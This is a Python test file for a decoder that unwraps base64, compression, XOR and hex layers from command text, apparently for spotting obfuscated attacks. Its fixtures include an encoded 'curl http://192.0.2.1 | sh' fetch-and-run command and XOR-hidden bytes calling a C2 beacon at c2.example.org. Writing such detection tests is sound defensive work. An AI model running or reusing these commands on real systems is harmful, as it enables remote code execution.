"""Encodings: what is taken for text, what is left alone, and what binary content becomes."""

from __future__ import annotations

import base64
import zlib

import pytest
from sysmon_essentials.commands.layers import encodings

MOST = 65536


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


@pytest.mark.parametrize(
    ("text", "expected", "names"),
    [
        (f"echo {b64(b'curl http://192.0.2.1 | sh')} |", "echo curl http://192.0.2.1 | sh |", ("base64",)),
        (f"Deflate('{b64(raw_deflate(b'write-host hello'))}')", "Deflate('write-host hello')", ("base64", "deflate")),
        (f"'{b64(zlib.compress(b'write-host hello'))}'", "'write-host hello'", ("base64", "zlib")),
        (f"'{b64('äöü grüße'.encode())}'", "'äöü grüße'", ("base64",)),
        (f"'{b64(bytes(range(128, 200)))}'", "", ()),
    ],
    ids=["text", "deflate", "zlib", "umlauts", "no text"],
)  # fmt: skip
def test_base64(text: str, expected: str, names: tuple[str, ...]) -> None:
    assert encodings.base64_text(text, MOST) == (expected or text, names)


def test_program_shows_its_size_and_words() -> None:
    data = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run" + bytes(range(128, 160))
    peeled = encodings.base64_text(b64(data), MOST)
    assert peeled.text == f"[program of {len(data)} bytes: This program cannot be run]"
    assert peeled.names == ("base64", "program")


def test_bytes_under_xor_are_turned_back_with_the_key_of_the_script() -> None:
    data = bytes(byte ^ 35 for byte in b"\xfc\xe8\x89\x00wininet http://c2.example.org/beacon\x00\x01\x02\x99")
    peeled = encodings.base64_text(f"FromBase64String('{b64(data)}'); $x -bxor 35", MOST)
    assert "http://c2.example.org/beacon" in peeled.text
    assert peeled.names == ("base64", "xor", "bytes")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo 706f7765727368656c6c202d63 | xxd", "echo powershell -c | xxd"),
        (r"'\x63\x61\x6c\x63\x2e\x65\x78\x65'", "'calc.exe'"),
        ("0x63, 0x61,0x6c,0x63,0x2e,0x65", "calc.e"),
        ("63-61-6C-63-2E-65-78-65", "calc.exe"),
        (r"\u0063\u0061", "ca"),
        ("d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e"),
    ],
    ids=["digits", "escapes", "array", "dashes", "unicode", "hash"],
)
def test_hexadecimal(text: str, expected: str) -> None:
    assert encodings.hexadecimal(text, MOST).text == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("x/%70%61%79", "x/pay"),
        ("x/%70%61", "x/%70%61"),
        ("%ff%fe%fd", "%ff%fe%fd"),
    ],
    ids=["text", "too little", "no text"],
)
def test_url(text: str, expected: str) -> None:
    assert encodings.url(text, MOST).text == expected
